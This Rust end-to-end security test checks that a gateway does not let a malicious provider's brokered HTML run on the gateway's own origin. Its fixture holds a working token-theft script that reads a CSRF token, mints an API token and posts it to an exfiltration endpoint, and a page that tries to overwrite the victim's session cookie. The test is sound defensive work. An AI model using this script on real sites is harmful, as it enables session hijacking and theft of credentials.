//! A malicious provider against a signed-in victim, in real headless Chromium (SPEC §3 step 5 ▲):
//! its brokered HTML page tries to read `/tokens` on the gateway's origin, mint an API token and
//! send it home; another brokered answer tries to replace the victim's session cookie. Nothing a
//! provider sends may run as the gateway's origin.

use axum::Router;
use axum::extract::State;
use axum::response::IntoResponse;
use axum::routing::{get, post};
use e2e::browser::Browser;
use e2e::free_port;
use e2e::process::{Gateway, NewUser};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const MANIFEST: &str = "features:\n  storage: { enabled: true }\n";

/// Synchronous requests, so that by the time the page has loaded the script has done all it
/// could: read the CSRF token from `/tokens`, create a token, show it, and post it home.
fn stealing_page(exfil: &str) -> String {
    format!(
        r#"<!doctype html><html><head><title>harmless</title></head><body><p>Results</p><script>
try {{
  document.title = 'script ran';
  const get = new XMLHttpRequest();
  get.open('GET', '/tokens', false);
  get.send();
  const csrf = get.responseText.match(/name="csrf" value="([^"]+)"/)[1];
  const make = new XMLHttpRequest();
  make.open('POST', '/tokens/new', false);
  make.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
  make.send('csrf=' + encodeURIComponent(csrf) + '&name=stolen');
  const token = make.responseText.match(/id="new-token">([^<]+)</)[1];
  document.title = 'token:' + token;
  const home = new XMLHttpRequest();
  home.open('POST', '{exfil}', false);
  home.setRequestHeader('content-type', 'text/plain');
  try {{ home.send(token); }} catch (e) {{}}
}} catch (e) {{
  document.title = document.title + ' / ' + e;
}}
</script></body></html>"#
    )
}

type Loot = Arc<Mutex<Vec<String>>>;

/// The malicious provider `evil`: its manifest, the stealing page, a cookie-setting page, and the
/// endpoint that receives what was stolen.
async fn malicious_provider(port: u16) -> Loot {
    let loot: Loot = Arc::default();
    let exfil = format!("http://127.0.0.1:{port}/exfil");
    let page = stealing_page(&exfil);
    let router = Router::new()
        .route(
            "/ucloud/evil/manifest",
            get(|| async { ([("content-type", "application/yaml")], MANIFEST) }),
        )
        .route(
            "/ucloud/evil/storage/results",
            get(move || async move { ([("content-type", "text/html; charset=utf-8")], page) }),
        )
        .route(
            "/ucloud/evil/storage/cookie",
            get(|| async {
                (
                    [
                        ("content-type", "text/html; charset=utf-8"),
                        ("set-cookie", "gw_session=attacker-session; Path=/"),
                    ],
                    "<p>nothing to see</p>",
                )
            }),
        )
        .route(
            "/exfil",
            post(|State(loot): State<Loot>, body: String| async move {
                loot.lock().expect("loot").push(body);
                ([("access-control-allow-origin", "*")], "thanks").into_response()
            }),
        )
        .with_state(loot.clone());
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", port))
        .await
        .expect("bind the malicious provider");
    tokio::spawn(async move { axum::serve(listener, router).await });
    loot
}

async fn session_cookie(browser: &mut Browser, gateway: &Gateway) -> Option<String> {
    let cookies = browser
        .call("Network.getCookies", json!({ "urls": [gateway.url("/")] }))
        .await;
    cookies["cookies"].as_array().and_then(|all| {
        all.iter()
            .find(|c| c["name"] == "gw_session")
            .and_then(|c| c["value"].as_str())
            .map(str::to_owned)
    })
}

#[tokio::test]
async fn a_providers_page_cannot_act_as_the_gateway_in_the_victims_browser() {
    let gateway = Gateway::new(None);
    // An admin may register a test provider under either registration policy.
    let alice = gateway.create_user_with_token(
        &NewUser::new("alice", "alice@example.org", "Alice", "Smith")
            .password("alice-password")
            .admin(),
    );
    let _server = gateway.serve().await;
    let port = free_port();
    let loot = malicious_provider(port).await;
    let http = reqwest::Client::new();
    let registered = http
        .post(gateway.url("/api/providers"))
        .bearer_auth(&alice)
        .json(&json!({ "id": "evil", "domain": "127.0.0.1", "https": false, "port": port, "env": "test" }))
        .send()
        .await
        .expect("register");
    assert_eq!(registered.status(), 201);
    let reloaded = http
        .post(gateway.url("/api/providers/evil/manifest/reload"))
        .bearer_auth(&alice)
        .send()
        .await
        .expect("reload");
    assert!(reloaded.status().is_success(), "{}", reloaded.status());
    let tokens = || async {
        let list: Value = http
            .get(gateway.url("/api/tokens"))
            .bearer_auth(&alice)
            .send()
            .await
            .expect("tokens")
            .json()
            .await
            .expect("json");
        list.as_array().map(Vec::len).unwrap_or_default()
    };
    assert_eq!(tokens().await, 1);

    // The victim signs in.
    let mut browser = Browser::launch().await;
    browser.goto(&gateway.url("/login")).await;
    browser.sign_in("alice", "alice-password").await;
    browser
        .wait_for(
            "location.pathname === '/providers'",
            Duration::from_secs(10),
        )
        .await;
    let session = session_cookie(&mut browser, &gateway).await;
    assert!(session.is_some(), "signed in");

    // The victim opens a brokered page; once it has loaded, its script has run if it could.
    browser
        .goto(&gateway.url("/ucloud/evil/storage/results"))
        .await;
    browser
        .wait_for(
            "document.body.innerText.includes('Results')",
            Duration::from_secs(10),
        )
        .await;
    let title = browser.eval("document.title").await;
    assert_eq!(
        title, "harmless",
        "the provider's script ran on the gateway's origin"
    );
    assert_eq!(tokens().await, 1, "no API token was made for the victim");
    assert!(
        loot.lock().expect("loot").is_empty(),
        "nothing was sent home"
    );

    // A brokered answer cannot set the gateway's cookies.
    browser
        .goto(&gateway.url("/ucloud/evil/storage/cookie"))
        .await;
    browser
        .wait_for(
            "document.body.innerText.includes('nothing to see')",
            Duration::from_secs(10),
        )
        .await;
    assert_eq!(
        session_cookie(&mut browser, &gateway).await,
        session,
        "the victim's session cookie is unchanged"
    );
    // And the victim is still signed in as themself.
    browser.goto(&gateway.url("/tokens")).await;
    browser
        .wait_for("location.pathname === '/tokens'", Duration::from_secs(10))
        .await;
    assert!(
        loot.lock().expect("loot").is_empty(),
        "nothing was sent home"
    );
}
